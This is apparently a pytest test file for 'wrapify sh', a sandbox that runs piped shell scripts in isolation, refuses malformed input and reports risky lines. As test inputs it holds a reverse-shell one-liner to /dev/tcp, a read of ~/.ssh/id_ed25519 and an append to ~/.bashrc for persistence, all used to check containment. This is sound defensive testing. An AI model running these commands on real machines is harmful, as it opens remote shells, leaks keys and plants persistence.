"""`wrapify sh`: the drop-in for sh at the end of a pipe."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from tests.conftest import Wrapify

MUST_SHOW = "echo hi > ~/x; cat ~/.ssh/id_ed25519; echo $$; exit 4\n"


def test_runs_a_script_from_a_pipe_without_touching_the_machine(each_bwrap: Wrapify) -> None:
    each_bwrap.put(".ssh/id_ed25519", "the key", 0o600)
    done = each_bwrap("sh", text=MUST_SHOW)
    assert done.returncode == 4
    assert done.stdout.strip().isdigit()
    assert "the key" not in done.stdout + done.stderr
    assert "No such file" in done.stderr
    assert not (each_bwrap.home / "x").exists()
    assert hashlib.sha256(MUST_SHOW.encode()).hexdigest() in done.stderr
    assert f"{len(MUST_SHOW)} bytes" in done.stderr


def test_gives_the_script_its_arguments_and_the_shells_name(wrapify: Wrapify) -> None:
    done = wrapify("sh", "-q", "-s", "--", "a b", "-c", text='printf "%s|" "$0" "$@"')
    assert done.stdout == "bash|a b|-c|"


def test_runs_a_file_under_its_own_name(wrapify: Wrapify) -> None:
    script = wrapify.put("script.sh", 'printf "%s|" "$0" "$@"')
    assert wrapify("sh", "-q", str(script), "a", "b c").stdout == f"{script}|a|b c|"


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ("", "is empty"),
        (" \n\t\n", "is empty"),
        ("touch ~/ran\nif true; then echo\n", "does not parse as bash"),
        ("touch ~/ran\ncat <<EOF\ncut of", "is cut off"),
        ("#!/bin/sh\ntouch ~/ran\ncat <<EOF\ncut of", "is cut off"),
        ("touch ~/ran\n\0\1\2", "binary data"),
        ("\n<!DOCTYPE html>\n<title>Not here</title>\n", "is a web page"),
        ("touch ~/ran\necho 'unclosed\n", "does not parse as bash"),
    ],
)
def test_refuses_what_is_no_whole_script(wrapify: Wrapify, script: str, says: str) -> None:
    done = wrapify("sh", text=script)
    assert (done.returncode, done.stdout) == (125, "")
    assert says in done.stderr
    assert "nothing was run" in done.stderr
    assert not wrapify.boxes.exists()


def test_refuses_a_script_that_is_too_large(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", '[script]\nmax_size = "1 KiB"\n')
    done = wrapify("sh", text="# " + "x" * 2000 + "\necho ran\n")
    assert (done.returncode, done.stdout) == (125, "")
    assert "larger than 1 KiB" in done.stderr


def test_prints_no_raw_bytes_of_a_script_it_refuses(wrapify: Wrapify) -> None:
    done = wrapify("sh", text="\x1b]0;title\x07 if \x1b[31m ( ; then\n")
    assert done.returncode == 125
    assert "\x1b" not in done.stderr
    assert "\x07" not in done.stderr


def test_a_file_finds_what_lies_beside_it(wrapify: Wrapify) -> None:
    wrapify.put("tool/part.sh", "echo part")
    wrapify.put("tool/part.py", "print('part')")
    script = wrapify.put("tool/main.sh", '. "$(dirname "${BASH_SOURCE[0]}")/part.sh"')
    assert wrapify("sh", "-q", str(script)).stdout == "part\n"
    script = wrapify.put("tool/main.py", "#!/usr/bin/env python3\nimport part")
    assert wrapify("sh", "-q", str(script)).stdout == "part\n"


def test_a_file_that_is_not_seen_inside_runs_all_the_same(wrapify: Wrapify, tmp_path: Path) -> None:
    script = tmp_path / "script.sh"
    script.write_text("echo ran $1")
    for folder in (tmp_path, *tmp_path.parents[:2]):
        folder.chmod(0o755)
    assert wrapify("sh", "-q", str(script), "x").stdout == "ran x\n"


def test_names_the_variables_that_the_script_misses(wrapify: Wrapify) -> None:
    env = {"METHOD": "git", "OTHER": "x", "MY_TOKEN": "secret", "METHODS": "y"}
    done = wrapify("sh", text='echo "<$METHOD>" ${MY_TOKEN}', env=env)
    assert done.stdout == "<>\n"
    assert "the script reads it: METHOD (--env METHOD does)" in done.stderr
    assert "OTHER" not in done.stderr
    assert "TOKEN" not in done.stderr
    assert wrapify("sh", "-q", "--env", "METHOD", text='echo "<$METHOD>"', env=env).stdout == "<git>\n"


def test_says_what_to_expect_of_sudo_when_a_script_fails(wrapify: Wrapify) -> None:
    says = "sudo cannot give rights in here"
    assert says in wrapify("sh", text="sudo() { return 1; }; sudo true").stderr
    assert says not in wrapify("sh", text="sudo() { return 0; }; sudo true").stderr
    assert says not in wrapify("sh", text="echo sudoku; exit 1").stderr


FINDINGS = """#!/bin/sh
echo begins
echo x >> ~/.bashrc
"""


def test_says_what_a_script_would_do_with_its_line(wrapify: Wrapify) -> None:
    done = wrapify("sh", text=FINDINGS)
    assert done.returncode == 0
    assert "line 3: Writes ~/.bashrc, which runs in every new shell." in done.stderr
    assert "line" not in wrapify("sh", text="echo hi").stderr
    assert "line 3" not in wrapify("sh", "-q", text=FINDINGS).stderr


def test_a_grave_script_runs_without_the_network(wrapify: Wrapify) -> None:
    done = wrapify("sh", text="bash -i >& /dev/tcp/203.0.113.7/9 0>&1 || echo not reached")
    assert "Gives somebody on the network a shell" in done.stderr
    assert "it gets no network because of that" in done.stderr
    assert "online" not in done.stderr.split("\n")[0]


def test_what_a_policy_file_blocks_runs_nowhere(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", '[rule]\npersistence = "block"\n')
    done = wrapify("sh", text=FINDINGS)
    assert done.returncode == 126
    assert "begins" not in done.stdout
    assert "rule.persistence" in done.stderr
